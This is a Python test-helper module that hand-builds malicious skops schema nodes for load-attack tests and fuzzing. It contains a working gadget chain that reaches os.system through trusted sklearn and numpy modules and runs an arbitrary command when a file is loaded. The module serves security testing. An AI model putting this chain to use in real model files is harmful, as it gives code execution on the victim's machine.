"""skops schema nodes, written by hand as an attacker would write them.

Shared by the crafted-file tests (``test_load_attacks.py``) and the file fuzz
(``test_file_fuzz.py``).
"""

import json

#: The names the command chain below needs trusted: skorchlite.load trusted
#: their modules once.
CHAIN_NAMES = [
    "sklearn.metrics._scorer._check_response_method",
    "sklearn.model_selection._split.np",
]


def node(loader, module, name, **fields):
    return {"__class__": name, "__module__": module, "__loader__": loader, **fields}


def json_node(value):
    return node("JsonNode", "builtins", "str", content=json.dumps(value), is_json=True)


def tuple_node(*items):
    return node("TupleNode", "builtins", "tuple", content=list(items))


def list_node(items, **fields):
    return node("ListNode", "builtins", "list", content=list(items), **fields)


def reduce_node(module, name, *args):
    """skops calls ``module.name(*args)``."""
    return node("ConstructorFromReduceNode", module, name, content=tuple_node(*args))


def getattr_node(obj, name):
    # sklearn.metrics._scorer._check_response_method(obj, name) is getattr.
    return reduce_node(
        "sklearn.metrics._scorer", "_check_response_method", obj, json_node(name)
    )


def os_system_node():
    """A node that skops builds into ``os.system``, through trusted modules."""
    numpy = node("TypeNode", "sklearn.model_selection._split", "np")
    return getattr_node(getattr_node(getattr_node(numpy, "f2py"), "os"), "system")


def command_node(command):
    """A dict node that skops builds by running ``os.system(command)``: it
    calls each key's type on the key."""
    return node(
        "DictNode",
        "builtins",
        "dict",
        content={command: json_node(1.0)},
        key_types=list_node([os_system_node()]),
    )
